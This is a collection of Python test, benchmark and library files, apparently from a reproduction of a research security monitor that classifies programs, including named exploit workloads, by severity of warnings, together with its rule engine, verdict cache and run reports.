        assert chaos_seeds(99, 3)[0] == 99

    def test_non_negative(self):
        assert all(s >= 0 for s in chaos_seeds(2**31 - 1, 10))


class TestRunOne:
    def test_bit_for_bit_replay(self, elm):
        a = run_one(elm, seed=42)
        b = run_one(elm, seed=42)
        assert [str(f) for f in a.injected_faults] == [
            str(f) for f in b.injected_faults
        ]
        assert a.console_output == b.console_output
        assert a.verdict is b.verdict
        assert sorted(w.rule for w in a.warnings) == sorted(
            w.rule for w in b.warnings
        )

    def test_semantic_profile_degrades_gracefully(self, elm):
        report = run_one(elm, seed=7, profile=SEMANTIC_PROFILE)
        assert report.result.reason != "watchdog"
        assert isinstance(report.verdict, Verdict)


class TestRunChaos:
    def test_exploit_verdict_stable_under_transparent_faults(self, elm):
        result = run_chaos(
            elm, chaos_seeds(1337, 3), profile=TRANSPARENT_PROFILE
        )
        assert result.workload == "ElmExploit"
        assert result.expected is elm.expected_verdict
        assert result.stable
        assert result.failing_seeds() == []
        assert len(result.trials) == 3
        assert all(v is elm.expected_verdict for v in result.verdicts)

    def test_trials_record_replay_evidence(self, elm):
        result = run_chaos(elm, chaos_seeds(1337, 3))
        for trial, seed in zip(result.trials, chaos_seeds(1337, 3)):
            assert trial.seed == seed
            assert trial.reason == "all-exited"
            assert trial.fault_count == len(trial.faults)
        assert result.total_faults == sum(
            t.fault_count for t in result.trials
        )
