"""Table 5 — resource-abuse micro-benchmarks (loop forker, tree forker)."""

from benchmarks.harness import (
    assert_all_match,
    emit_classification_table,
    once,
    run_workloads,
)
from repro.programs.micro.resource import table5_workloads


def bench_table5_resource_abuse(benchmark):
    results = once(benchmark, lambda: run_workloads(table5_workloads()))
    emit_classification_table(
        "Table 5: HTH Micro benchmarks - Resource Abuse",
        "table5_resource_abuse.txt",
        results,
    )
    assert_all_match(results)
