"""Rule-engine matching cost: incremental Rete vs the naive re-join.

The property that justifies the Rete network (and that CLIPS gave the
paper for free): per-event match cost must stay *flat* as working
memory accumulates, because the network only touches the delta.  The
naive matcher re-joins every rule against every fact per firing, so its
per-event cost grows linearly with working-memory size — a daemon
retaining session state slows down the longer it runs.

The workload is rule-heavy and event-heavy on purpose: 20 productions
(threshold, two-pattern join, and negation shapes over 8 event kinds),
32 keyed state facts, and a deterministic event stream that *retains*
its events, so working memory grows while the detector keeps firing.

Three measurements:

* ``per_event`` — probe cost (assert + run + retract, amortized over
  ``PROBE_EVENTS`` probes) at increasing retained-WM sizes, for both
  engines.  Rete must stay flat across a 100x WM growth; the naive
  numbers document the linear growth (measured at the smaller sizes
  only — quiescing a 10k-fact naive engine takes minutes, which is
  itself the point).
* ``stream`` — end-to-end wall time for the retained event stream
  (assert + fire per event), rete vs naive, and the speedup.
* ``equivalence`` — both engines see the same stream and must agree on
  rule hits and fire-trace, asserted here and gated in perf_smoke.

Results land in ``benchmarks/results/rule_engine.txt`` and
``benchmarks/results/BENCH_rule_engine.json``.  The hard gates
(>=3x stream speedup, flat scaling) live in ``benchmarks.perf_smoke``
(``check_rule_engine``).

Runnable standalone (``python -m benchmarks.bench_rule_engine``) or via
pytest-benchmark like the other bench modules.
"""

from __future__ import annotations

import json
import time

from benchmarks.harness import render_table, write_result
from repro.expert import (
    InferenceEngine,
    Not,
    Pattern,
    Rule,
    Template,
    Test,
    V,
)

KINDS = [f"kind{i}" for i in range(8)]
KEYS = [f"key{i}" for i in range(32)]

#: Probes amortized per per-event measurement.
PROBE_EVENTS = 200

#: Retained-WM sizes for the flat-scaling curve (100x growth).
RETE_WM_SIZES = (100, 1_000, 10_000)
#: The naive engine is only quiesced at the small sizes (linear growth
#: makes the large ones pointless to wait for).
NAIVE_WM_SIZES = (100, 400)

#: End-to-end stream length for the speedup measurement.
STREAM_EVENTS = 150


def build_engine(rete: bool) -> InferenceEngine:
    """20 productions over event/state/suppress working memory."""
    engine = InferenceEngine(rete=rete)
    engine.define_template(Template.define("event", "kind", "key", "val"))
    engine.define_template(Template.define("state", "key", "lvl"))
    engine.define_template(Template.define("suppress", "key"))
    engine.context["hits"] = 0

    def hit(ctx):
        ctx.context["hits"] += 1

    for i, kind in enumerate(KINDS):
        engine.add_rule(Rule(
            name=f"thresh-{kind}",
            lhs=[
                Pattern("event", kind=kind, val=V("v")),
                Test(lambda b, floor=i % 4: b["v"] > floor),
            ],
            action=hit,
        ))
    for kind in KINDS:
        engine.add_rule(Rule(
            name=f"join-{kind}",
            lhs=[
                Pattern("event", kind=kind, key=V("k"), val=V("v")),
                Pattern("state", key=V("k"), lvl=V("l")),
                Test(lambda b: b["v"] >= b["l"]),
            ],
            action=hit,
            salience=1,
        ))
    for kind in KINDS[:4]:
        engine.add_rule(Rule(
            name=f"fresh-{kind}",
            lhs=[
                Pattern("event", kind=kind, key=V("k")),
                Not(Pattern("suppress", key=V("k"))),
            ],
            action=hit,
            salience=2,
        ))

    for i, key in enumerate(KEYS):
        engine.assert_fact(
            engine.templates["state"].make(key=key, lvl=i % 4)
        )
        if i % 2:
            engine.assert_fact(
                engine.templates["suppress"].make(key=key)
            )
    engine.run()
    return engine


def make_event(engine: InferenceEngine, sequence: int):
    return engine.templates["event"].make(
        kind=KINDS[sequence % len(KINDS)],
        key=KEYS[(sequence * 7) % len(KEYS)],
        val=sequence % 6,
    )


def stream(engine: InferenceEngine, count: int, start: int = 0) -> None:
    """Retained event stream: assert + fire per event, WM grows."""
    for sequence in range(start, start + count):
        engine.assert_fact(make_event(engine, sequence))
        engine.run()


def probe_per_event(engine: InferenceEngine,
                    probes: int = PROBE_EVENTS) -> float:
    """Seconds per ephemeral event (assert + run + retract), amortized."""
    start = time.perf_counter()
    for sequence in range(probes):
        fact = engine.assert_fact(make_event(engine, sequence))
        engine.run()
        engine.retract(fact)
    return (time.perf_counter() - start) / probes


def observe(engine: InferenceEngine):
    """The observable surface the two engines must agree on."""
    return (
        engine.context["hits"],
        [(f.rule_name, f.fact_ids) for f in engine.fire_trace],
        len(engine.agenda()),
    )


def measure():
    results = {
        "per_event": {"rete": {}, "naive": {}},
        "stream": {},
        "equivalence": {},
    }

    # Flat-scaling curve: one rete engine grown through the sizes.
    engine = build_engine(rete=True)
    grown = 0
    for size in RETE_WM_SIZES:
        stream(engine, size - grown, start=grown)
        grown = size
        results["per_event"]["rete"][str(size)] = probe_per_event(engine)

    for size in NAIVE_WM_SIZES:
        engine = build_engine(rete=False)
        stream(engine, size)
        results["per_event"]["naive"][str(size)] = probe_per_event(engine)

    # End-to-end retained stream, both engines, plus equivalence.
    outcomes = {}
    timings = {}
    for label, rete in (("rete", True), ("naive", False)):
        engine = build_engine(rete=rete)
        start = time.perf_counter()
        stream(engine, STREAM_EVENTS)
        timings[label] = time.perf_counter() - start
        outcomes[label] = observe(engine)
    results["stream"] = {
        "events": STREAM_EVENTS,
        "rete_seconds": timings["rete"],
        "naive_seconds": timings["naive"],
        "speedup": timings["naive"] / timings["rete"],
    }
    results["equivalence"] = {
        "hits": outcomes["rete"][0],
        "identical": outcomes["rete"] == outcomes["naive"],
    }

    rete_curve = results["per_event"]["rete"]
    results["flat_ratio"] = (
        rete_curve[str(RETE_WM_SIZES[-1])]
        / rete_curve[str(RETE_WM_SIZES[0])]
    )
    return results


def report(results) -> str:
    rows = []
    for engine_name, curve in results["per_event"].items():
        for size, seconds in curve.items():
            rows.append((
                engine_name, size, f"{seconds * 1e6:.1f}",
            ))
    text = render_table(
        "Per-event match cost vs retained working-memory size",
        ("engine", "wm facts", "us/event"),
        rows,
    )
    stream_r = results["stream"]
    text += (
        f"\nstream: {stream_r['events']} retained events — "
        f"rete {stream_r['rete_seconds']:.3f}s, "
        f"naive {stream_r['naive_seconds']:.3f}s, "
        f"speedup {stream_r['speedup']:.1f}x\n"
        f"rete flat ratio across {RETE_WM_SIZES[0]} -> "
        f"{RETE_WM_SIZES[-1]} facts: {results['flat_ratio']:.2f}\n"
    )
    return text


def run_benchmark():
    results = measure()
    text = report(results)
    print("\n" + text)
    write_result("rule_engine.txt", text)
    write_result(
        "BENCH_rule_engine.json", json.dumps(results, indent=2) + "\n"
    )

    # Shape assertions only — the hard gates live in perf_smoke.
    assert results["equivalence"]["identical"], \
        "rete and naive engines diverged on the stream workload"
    assert results["stream"]["speedup"] > 1.0, results["stream"]
    return results


def test_rule_engine_benchmark(benchmark):
    benchmark.pedantic(run_benchmark, rounds=1, iterations=1)


if __name__ == "__main__":
    run_benchmark()
