"""End-to-end classification tests for every evaluation table (paper
Tables 4-8 and section 8.4) — each row must land on the paper's verdict."""

import pytest

from repro.programs.exploits.registry import table8_workloads
from repro.programs.macro.registry import macro_workloads
from repro.programs.micro.execflow import table4_workloads
from repro.programs.micro.infoflow import table6_workloads
from repro.programs.micro.resource import table5_workloads
from repro.programs.trusted.registry import table7_workloads


def _id(workload):
    return workload.name.replace(" ", "_")


def check(workload):
    report = workload.run()
    assert report.result.reason in ("all-exited", "max-ticks"), (
        f"{workload.name}: run ended with {report.result.reason} "
        f"(faults: {report.faults})"
    )
    assert not report.faults, f"{workload.name}: guest faults {report.faults}"
    assert report.verdict is workload.expected_verdict, (
        f"{workload.name}: verdict {report.verdict} != expected "
        f"{workload.expected_verdict}; warnings:\n{report.render_warnings()}"
    )
    fired = {w.rule for w in report.warnings}
    for rule in workload.expected_rules:
        assert rule in fired, (
            f"{workload.name}: expected rule {rule} did not fire "
            f"(fired: {sorted(fired)})"
        )
    return report


@pytest.mark.parametrize("workload", table4_workloads(), ids=_id)
def test_table4_execution_flow(workload):
    check(workload)


@pytest.mark.parametrize("workload", table5_workloads(), ids=_id)
def test_table5_resource_abuse(workload):
    check(workload)


@pytest.mark.parametrize("workload", table6_workloads(), ids=_id)
def test_table6_information_flow(workload):
    check(workload)


@pytest.mark.parametrize("workload", table7_workloads(), ids=_id)
def test_table7_trusted_programs(workload):
    check(workload)


@pytest.mark.parametrize("workload", table8_workloads(), ids=_id)
def test_table8_real_exploits(workload):
    check(workload)


@pytest.mark.parametrize("workload", macro_workloads(), ids=_id)
def test_macro_benchmarks(workload):
    check(workload)


class TestTableShapes:
    def test_table4_has_four_rows(self):
        assert len(table4_workloads()) == 4

    def test_table5_has_two_rows(self):
        assert len(table5_workloads()) == 2

    def test_table6_covers_all_flow_sections(self):
        sections = {w.name.split(":")[0] for w in table6_workloads()}
        assert sections == {
            "Binary -> File",
            "Binary -> Socket",
            "File -> File",
            "File -> socket",
            "Socket -> File",
            "Hardware -> File",
        }

    def test_table7_matches_paper_order(self):
        names = [w.name for w in table7_workloads()]
        assert names == ["ls", "column", "make", "g++", "awk", "pico",
                         "tail", "diff", "wc", "bc", "xeyes"]

    def test_table8_matches_paper_order(self):
        names = [w.name for w in table8_workloads()]
        assert names == ["ElmExploit", "nlspath", "procex", "grabem",
                         "vixie crontab", "pma", "superforker"]

    def test_every_exploit_is_detected(self):
        from repro.core.report import Verdict

        for w in table8_workloads():
            assert w.expected_verdict is not Verdict.BENIGN


# -- section 10 extension workloads ------------------------------------------
from repro.programs.extensions import extension_workloads  # noqa: E402


@pytest.mark.parametrize("workload", extension_workloads(), ids=_id)
def test_extension_workloads(workload):
    check(workload)


# -- section 2.1 scenario analogues (Table 1, live) ---------------------------
from repro.programs.scenarios import (  # noqa: E402
    observe_patterns,
    paper_patterns,
    scenario_workloads,
)


@pytest.mark.parametrize("workload", scenario_workloads(), ids=_id)
def test_scenario_workloads(workload):
    check(workload)


@pytest.mark.parametrize("workload", scenario_workloads(), ids=_id)
def test_scenario_patterns_match_table1(workload):
    observed = observe_patterns(workload)
    claim = paper_patterns()[workload.name]
    assert observed.remotely_directed == claim.remotely_directed
    assert observed.hardcoded_resources == claim.hardcoded_resources
    assert observed.degrading_performance == claim.degrading_performance
    assert observed.verdict == claim.verdict
