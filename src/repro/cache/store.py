"""The verdict cache store: in-memory LRU tier + optional disk tier.

Values are serialized once at store time and deserialized on every hit,
so a hit always hands back a *fresh* object graph — callers may mutate a
cached :class:`RunReport` without poisoning later hits, and the bytes in
the memory tier are exactly the bytes on disk.

Two codecs exist, chosen per cache:

* ``"json"`` — for caches whose values are plain wire dicts (the serve
  daemon).  JSON is data-only: reading an entry can never execute code,
  so a writable shared ``cache_dir`` is at worst a cache-poisoning
  surface, never remote code execution.  Prefer it whenever the values
  allow.
* ``"pickle"`` — for caches that hold real object graphs
  (:class:`RunReport` in the Session/fleet ``"session"`` namespace),
  which have no lossless data-only encoding today.  ``pickle.loads`` on
  attacker-controlled bytes is arbitrary code execution, so a pickle
  ``cache_dir`` **must be private to the trusted processes sharing
  it** — the store creates fresh roots mode ``0o700`` to that end, and
  never relaxes the mode of a pre-existing directory.

The disk tier is safe for concurrent fleet workers without locking:
entries are content-addressed (identical keys always carry identical
payloads, so a racing double-write is harmless), writes go through a
unique temp file + :func:`os.replace` (atomic on POSIX), and a corrupt
or truncated entry — including one in the other codec — reads as a
miss, never as an error.

Cache *policy* lives here too: :func:`bypass_reason` names every
situation in which a run must not be answered (or populated) from
cache — the cache is disabled, fault injection is active (chaos runs
must really execute), telemetry is being collected (a cached reply has
no fresh samples to contribute), or the run carries an opaque analyzer
or setup closure the key cannot describe.  Stores are refused for
degraded or watchdog-killed reports so a retry always re-executes.
"""

from __future__ import annotations

import json
import os
import pickle
import time
from collections import OrderedDict
from dataclasses import dataclass, field
from typing import Any, Dict, Iterator, Optional, Tuple

# -- bypass reasons (values appear as the cache_bypass_total{reason=} label)
BYPASS_DISABLED = "disabled"
BYPASS_FAULTS = "faults"
BYPASS_TELEMETRY = "telemetry"
BYPASS_ANALYZER = "analyzer"
BYPASS_OPAQUE_SETUP = "opaque-setup"

_BYPASS_REASONS = (
    BYPASS_DISABLED,
    BYPASS_FAULTS,
    BYPASS_TELEMETRY,
    BYPASS_ANALYZER,
    BYPASS_OPAQUE_SETUP,
)

#: pickle protocol 4 is stable across the supported interpreters.
_PICKLE_PROTOCOL = 4


def _pickle_dumps(envelope: Dict[str, Any]) -> bytes:
    return pickle.dumps(envelope, protocol=_PICKLE_PROTOCOL)


def _json_dumps(envelope: Dict[str, Any]) -> bytes:
    # No sort_keys: insertion order survives the round trip, so a hit
    # replays byte-for-byte the wire dict that was stored.
    return json.dumps(envelope, separators=(",", ":")).encode("utf-8")


def _json_loads(payload: bytes) -> Dict[str, Any]:
    return json.loads(payload.decode("utf-8"))


#: codec name -> (dumps, loads) over the ``{"key","meta","value"}``
#: envelope.  See the module docstring for when each is appropriate.
CODECS = {
    "pickle": (_pickle_dumps, pickle.loads),
    "json": (_json_dumps, _json_loads),
}


def bypass_reason(
    options,
    telemetry=None,
    fault_injector=None,
    analyzer=None,
    opaque_setup: bool = False,
) -> Optional[str]:
    """Why this run must skip the cache, or None if it is cacheable.

    Ordering matters for the counters: an explicit ``--no-cache`` wins
    over everything, then chaos/fault injection, then telemetry.
    """
    if not getattr(options, "cache", True):
        return BYPASS_DISABLED
    if fault_injector is not None or options.fault_profile is not None:
        return BYPASS_FAULTS
    if telemetry is not None or options.wants_telemetry:
        return BYPASS_TELEMETRY
    if analyzer is not None:
        return BYPASS_ANALYZER
    if opaque_setup:
        return BYPASS_OPAQUE_SETUP
    return None


def cacheable_report(report) -> bool:
    """Whether a fresh :class:`RunReport` may populate the cache.

    Watchdog kills and degraded runs (monitor faults, quarantined rules,
    dropped events) are transient outcomes — the fleet retries them, so
    remembering them would freeze a flake forever.
    """
    return report.result.reason != "watchdog" and not report.degraded


def cacheable_report_dict(report: Dict[str, Any]) -> bool:
    """`cacheable_report` for wire-form (``to_dict``) reports."""
    result = report.get("result") or {}
    return result.get("reason") != "watchdog" and not report.get("degraded")


class MemoryLRU:
    """A byte-valued LRU map; the hot tier of the verdict cache."""

    def __init__(self, capacity: int = 512) -> None:
        self.capacity = max(1, int(capacity))
        self._entries: "OrderedDict[str, bytes]" = OrderedDict()
        self.evictions = 0

    def get(self, key: str) -> Optional[bytes]:
        payload = self._entries.get(key)
        if payload is not None:
            self._entries.move_to_end(key)
        return payload

    def put(self, key: str, payload: bytes) -> None:
        self._entries[key] = payload
        self._entries.move_to_end(key)
        while len(self._entries) > self.capacity:
            self._entries.popitem(last=False)
            self.evictions += 1

    def __len__(self) -> int:
        return len(self._entries)

    def clear(self) -> None:
        self._entries.clear()


class DiskStore:
    """Content-addressed entries on disk, shareable between processes.

    Layout: ``<root>/<key[:2]>/<key>.rvc`` — the two-hex-char shard keeps
    directories small on big sweeps.  Each entry is a codec-encoded
    envelope ``{"key", "meta", "value"}``; the embedded key is checked on
    read so a renamed or mangled file can never answer for the wrong
    digest, and a file in the wrong codec parses as corrupt (a miss).
    A ``"json"``-codec store never unpickles anything: bytes planted in
    its directory cannot execute code on read.

    A root this store creates is made mode ``0o700``; a pre-existing
    root's permissions are the operator's business and left alone.
    """

    SUFFIX = ".rvc"

    def __init__(self, root: str, codec: str = "pickle") -> None:
        self.root = root
        self.codec = codec
        self._dumps, self._loads = CODECS[codec]
        self.corrupt = 0
        self._seq = 0
        existed = os.path.isdir(root)
        os.makedirs(root, exist_ok=True)
        if not existed:
            try:
                os.chmod(root, 0o700)
            except OSError:
                pass

    def _path(self, key: str) -> str:
        return os.path.join(self.root, key[:2], key + self.SUFFIX)

    def read(self, key: str) -> Optional[bytes]:
        try:
            with open(self._path(key), "rb") as fh:
                payload = fh.read()
        except OSError:
            return None
        try:
            envelope = self._loads(payload)
            if envelope.get("key") != key:
                raise ValueError("key mismatch")
        except Exception:
            self.corrupt += 1
            return None
        return payload

    def write(self, key: str, payload: bytes) -> None:
        path = self._path(key)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        self._seq += 1
        tmp = f"{path}.tmp.{os.getpid()}.{self._seq}"
        try:
            with open(tmp, "wb") as fh:
                fh.write(payload)
            os.replace(tmp, path)
        except OSError:
            # A full or read-only disk degrades to a smaller cache, not
            # a failed run.
            try:
                os.unlink(tmp)
            except OSError:
                pass

    def entries(self) -> Iterator[Tuple[str, Dict[str, Any], int]]:
        """Yield ``(key, meta, size_bytes)`` for every readable entry."""
        for shard in sorted(os.listdir(self.root)):
            shard_dir = os.path.join(self.root, shard)
            if not os.path.isdir(shard_dir):
                continue
            for name in sorted(os.listdir(shard_dir)):
                if not name.endswith(self.SUFFIX):
                    continue
                key = name[: -len(self.SUFFIX)]
                payload = self.read(key)
                if payload is None:
                    continue
                envelope = self._loads(payload)
                yield key, envelope.get("meta") or {}, len(payload)

    def clear(self) -> int:
        removed = 0
        for shard in list(os.listdir(self.root)):
            shard_dir = os.path.join(self.root, shard)
            if not os.path.isdir(shard_dir):
                continue
            for name in list(os.listdir(shard_dir)):
                if name.endswith(self.SUFFIX):
                    try:
                        os.unlink(os.path.join(shard_dir, name))
                        removed += 1
                    except OSError:
                        pass
        return removed


@dataclass
class CacheStats:
    hits: int = 0
    misses: int = 0
    stores: int = 0
    mem_hits: int = 0
    disk_hits: int = 0
    store_skips: int = 0
    unpicklable: int = 0
    bypass: Dict[str, int] = field(default_factory=dict)

    @property
    def hit_rate(self) -> float:
        total = self.hits + self.misses
        return self.hits / total if total else 0.0


class VerdictCache:
    """Two-tier content-addressed verdict cache.

    ``namespace`` keeps differently-shaped values from colliding in a
    shared store: the Session caches pickled :class:`RunReport` objects
    (``"session"``) while the serve daemon caches JSON wire dicts
    (``"serve"``) — both may point at the same ``disk_dir``.  ``codec``
    picks the envelope encoding (module docstring): ``"json"`` wherever
    the values are plain data, ``"pickle"`` only for caches private to
    trusted processes.

    With a ``metrics`` registry attached, every operation lands in the
    ``cache_*`` OpenMetrics families (pre-touched to zero at
    construction so scrapes see them before the first lookup).
    """

    def __init__(
        self,
        capacity: int = 512,
        disk_dir: Optional[str] = None,
        metrics=None,
        namespace: str = "session",
        codec: str = "pickle",
    ) -> None:
        self.namespace = namespace
        self.codec = codec
        self._dumps, self._loads = CODECS[codec]
        self.memory = MemoryLRU(capacity)
        self.disk = DiskStore(disk_dir, codec=codec) if disk_dir else None
        self.stats = CacheStats()
        self.metrics = metrics
        if metrics is not None:
            metrics.counter("cache_hits_total", tier="memory")
            metrics.counter("cache_hits_total", tier="disk")
            metrics.counter("cache_misses_total")
            metrics.counter("cache_stores_total")
            for reason in _BYPASS_REASONS:
                metrics.counter("cache_bypass_total", reason=reason)
            metrics.counter("cache_evictions_total")
            metrics.counter("cache_corrupt_total")
            metrics.gauge("cache_entries")
            metrics.histogram("cache_lookup_seconds")

    def _full_key(self, key: str) -> str:
        return f"{self.namespace}-{key}"

    # -- the cache protocol -------------------------------------------------
    def lookup(self, key: str) -> Optional[Any]:
        """Return a fresh copy of the cached value, or None on miss."""
        started = time.perf_counter()
        full = self._full_key(key)
        tier = None
        payload = self.memory.get(full)
        if payload is not None:
            tier = "memory"
        elif self.disk is not None:
            payload = self.disk.read(full)
            if payload is not None:
                tier = "disk"
                self.memory.put(full, payload)
        if self.metrics is not None:
            self.metrics.histogram("cache_lookup_seconds").observe(
                time.perf_counter() - started
            )
        if payload is None:
            self.stats.misses += 1
            if self.metrics is not None:
                self.metrics.counter("cache_misses_total").inc()
            return None
        self.stats.hits += 1
        if tier == "memory":
            self.stats.mem_hits += 1
        else:
            self.stats.disk_hits += 1
        if self.metrics is not None:
            self.metrics.counter("cache_hits_total", tier=tier).inc()
        return self._loads(payload)["value"]

    def store(
        self, key: str, value: Any, meta: Optional[Dict[str, Any]] = None
    ) -> bool:
        full = self._full_key(key)
        envelope = {
            "key": full,
            "meta": {"namespace": self.namespace, **(meta or {})},
            "value": value,
        }
        try:
            payload = self._dumps(envelope)
        except Exception:
            # Unencodable in this codec (a closure under pickle, a
            # non-JSON-able object under json): degrade to no store.
            self.stats.unpicklable += 1
            return False
        self.memory.put(full, payload)
        if self.disk is not None:
            self.disk.write(full, payload)
        self.stats.stores += 1
        if self.metrics is not None:
            self.metrics.counter("cache_stores_total").inc()
            self.metrics.gauge("cache_entries").set(len(self.memory))
        return True

    def store_report(self, key: str, report, meta=None) -> bool:
        """Store a fresh RunReport if its outcome is cacheable."""
        if not cacheable_report(report):
            self.stats.store_skips += 1
            return False
        info = {
            "program": report.program,
            "verdict": report.verdict.value,
            "warnings": len(report.warnings),
        }
        info.update(meta or {})
        return self.store(key, report, meta=info)

    def bypass(self, reason: str) -> None:
        self.stats.bypass[reason] = self.stats.bypass.get(reason, 0) + 1
        if self.metrics is not None:
            self.metrics.counter("cache_bypass_total", reason=reason).inc()

    # -- introspection ------------------------------------------------------
    @property
    def hit_rate(self) -> float:
        return self.stats.hit_rate

    def snapshot(self) -> Dict[str, Any]:
        snap = {
            "namespace": self.namespace,
            "codec": self.codec,
            "hits": self.stats.hits,
            "misses": self.stats.misses,
            "hit_rate": round(self.stats.hit_rate, 4),
            "stores": self.stats.stores,
            "store_skips": self.stats.store_skips,
            "unpicklable": self.stats.unpicklable,
            "memory_hits": self.stats.mem_hits,
            "disk_hits": self.stats.disk_hits,
            "memory_entries": len(self.memory),
            "evictions": self.memory.evictions,
            "bypass": dict(sorted(self.stats.bypass.items())),
            "disk_dir": self.disk.root if self.disk is not None else None,
            "disk_corrupt": self.disk.corrupt if self.disk else 0,
        }
        if self.metrics is not None:
            self.metrics.counter(
                "cache_evictions_total"
            ).value = self.memory.evictions
            self.metrics.counter(
                "cache_corrupt_total"
            ).value = self.disk.corrupt if self.disk else 0
        return snap

    def clear(self) -> None:
        self.memory.clear()
        if self.disk is not None:
            self.disk.clear()


def merge_cache_stats(parts) -> Dict[str, Any]:
    """Deterministically merge per-worker cache snapshots (fleet merge).

    Counters add; the hit rate is recomputed from the merged totals, so
    the result is independent of worker arrival order.
    """
    merged: Dict[str, Any] = {
        "hits": 0,
        "misses": 0,
        "stores": 0,
        "store_skips": 0,
        "memory_hits": 0,
        "disk_hits": 0,
        "evictions": 0,
        "bypass": {},
        "workers": 0,
    }
    for part in parts:
        if not part:
            continue
        merged["workers"] += 1
        for field_name in (
            "hits", "misses", "stores", "store_skips",
            "memory_hits", "disk_hits", "evictions",
        ):
            merged[field_name] += int(part.get(field_name, 0))
        for reason, count in (part.get("bypass") or {}).items():
            merged["bypass"][reason] = (
                merged["bypass"].get(reason, 0) + int(count)
            )
    total = merged["hits"] + merged["misses"]
    merged["hit_rate"] = round(
        merged["hits"] / total, 4
    ) if total else 0.0
    merged["bypass"] = dict(sorted(merged["bypass"].items()))
    return merged
