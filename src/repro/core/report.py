"""Run reports and verdicts."""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.harrier.events import SecurityEvent
from repro.kernel.kernel import RunResult
from repro.secpert.warnings import SecurityWarning, Severity


class Verdict(enum.Enum):
    """Classification of one monitored run by its strongest warning."""

    BENIGN = "benign"        # no warnings at all
    LOW = "low"
    MEDIUM = "medium"
    HIGH = "high"

    @classmethod
    def from_severity(cls, severity: Optional[Severity]) -> "Verdict":
        if severity is None:
            return cls.BENIGN
        return {
            Severity.LOW: cls.LOW,
            Severity.MEDIUM: cls.MEDIUM,
            Severity.HIGH: cls.HIGH,
        }[severity]

    @property
    def flagged(self) -> bool:
        return self is not Verdict.BENIGN


@dataclass
class RunReport:
    """Everything HTH observed about one program run."""

    program: str
    argv: List[str]
    result: RunResult
    warnings: List[SecurityWarning]
    events: List[SecurityEvent]
    console_output: str
    exit_code: Optional[int]
    killed_by_monitor: bool = False
    faults: List[Tuple[int, str]] = field(default_factory=list)

    @property
    def max_severity(self) -> Optional[Severity]:
        if not self.warnings:
            return None
        return max(w.severity for w in self.warnings)

    @property
    def verdict(self) -> Verdict:
        return Verdict.from_severity(self.max_severity)

    @property
    def flagged(self) -> bool:
        return bool(self.warnings)

    def warning_counts(self) -> Dict[str, int]:
        counts = {"LOW": 0, "MEDIUM": 0, "HIGH": 0}
        for warning in self.warnings:
            counts[warning.severity.label()] += 1
        return counts

    def warnings_by_rule(self, rule: str) -> List[SecurityWarning]:
        return [w for w in self.warnings if w.rule == rule]

    def render_warnings(self) -> str:
        return "\n\n".join(w.render() for w in self.warnings)

    def summary_line(self) -> str:
        counts = self.warning_counts()
        graded = " ".join(
            f"{label}={count}" for label, count in counts.items() if count
        )
        return (
            f"{self.program}: verdict={self.verdict.value}"
            + (f" ({graded})" if graded else "")
        )
