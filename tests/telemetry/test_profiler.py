"""Stage profiler: the live §8/§9 overhead breakdown."""

from repro.telemetry import (
    STAGE_ANALYSIS,
    STAGE_BBFREQ,
    STAGE_DATAFLOW,
    STAGE_NATIVE,
    STAGES,
    StageProfiler,
)


def _loaded():
    p = StageProfiler()
    p.add(STAGE_BBFREQ, 0.1)
    p.add(STAGE_DATAFLOW, 0.3)
    p.add(STAGE_ANALYSIS, 0.1)
    p.add_run(1.0)
    return p


class TestBreakdown:
    def test_native_is_the_unattributed_remainder(self):
        b = _loaded().breakdown()
        assert abs(b[STAGE_NATIVE] - 0.5) < 1e-9
        assert b[STAGE_DATAFLOW] == 0.3

    def test_native_never_negative(self):
        p = StageProfiler()
        p.add(STAGE_DATAFLOW, 2.0)
        p.add_run(1.0)  # attributed exceeds the run wall
        assert p.breakdown()[STAGE_NATIVE] == 0.0

    def test_accumulates_across_runs(self):
        p = _loaded()
        p.add(STAGE_DATAFLOW, 0.3)
        p.add_run(1.0)
        assert p.runs == 2
        assert p.total_seconds == 2.0
        assert abs(p.breakdown()[STAGE_DATAFLOW] - 0.6) < 1e-9

    def test_shares_sum_to_one(self):
        shares = _loaded().shares()
        assert abs(sum(shares.values()) - 1.0) < 1e-9


class TestSlowdowns:
    def test_cumulative_paper_configurations(self):
        s = _loaded().slowdowns()
        assert s[STAGE_NATIVE] == 1.0
        assert abs(s[STAGE_BBFREQ] - 1.2) < 1e-9      # (0.5+0.1)/0.5
        assert abs(s[STAGE_DATAFLOW] - 1.8) < 1e-9    # +0.3
        assert abs(s[STAGE_ANALYSIS] - 2.0) < 1e-9    # +0.1 -> full
        # monotone by construction
        values = [s[stage] for stage in STAGES]
        assert values == sorted(values)

    def test_zero_native_degenerates_to_ones(self):
        p = StageProfiler()
        p.add(STAGE_DATAFLOW, 1.0)
        p.add_run(0.5)
        assert set(p.slowdowns().values()) == {1.0}


class TestRendering:
    def test_to_dict_round_trips_json(self):
        import json

        d = json.loads(json.dumps(_loaded().to_dict()))
        assert d["runs"] == 1
        assert set(d["stage_seconds"]) == set(STAGES)

    def test_render_names_the_paper_configurations(self):
        text = _loaded().render()
        for config in ("native", "native+bbfreq",
                       "native+bbfreq+dataflow", "full monitor"):
            assert config in text
        assert "cumulative slowdown" in text
