"""Rule left-hand sides: patterns, variables, tests, negation.

A rule's LHS is an ordered list of conditional elements:

* :class:`Pattern` — match one fact of a template, constraining slots with
  literals, variables (``V("x")``), or predicates;
* :class:`Test` — a predicate over the bindings accumulated so far
  (CLIPS ``(test ...)``);
* :class:`Not` — no fact matches the given pattern under the current
  bindings (CLIPS ``(not ...)``).

Matching is naive join (facts are few per Secpert event), with variable
bindings threaded left to right.
"""

from __future__ import annotations

import inspect
from dataclasses import dataclass
from typing import Any, Callable, Dict, Iterable, List, Optional

from repro.expert.template import Fact

Bindings = Dict[str, Any]


@dataclass(frozen=True)
class V:
    """A variable: binds on first use, must match on later uses."""

    name: str


def _predicate_arity(fn: Callable[..., bool]) -> int:
    """How many positional arguments ``fn`` accepts: 2, 1, or 0 (unknown).

    Resolved once so a ``TypeError`` raised *inside* a two-argument
    predicate propagates instead of being mistaken for an arity mismatch
    and silently retried with one argument.
    """
    try:
        signature = inspect.signature(fn)
    except (TypeError, ValueError):
        return 0  # some C builtins expose no signature
    positional = 0
    for parameter in signature.parameters.values():
        if parameter.kind == parameter.VAR_POSITIONAL:
            return 2
        if parameter.kind in (parameter.POSITIONAL_ONLY,
                              parameter.POSITIONAL_OR_KEYWORD):
            positional += 1
    return 2 if positional >= 2 else 1


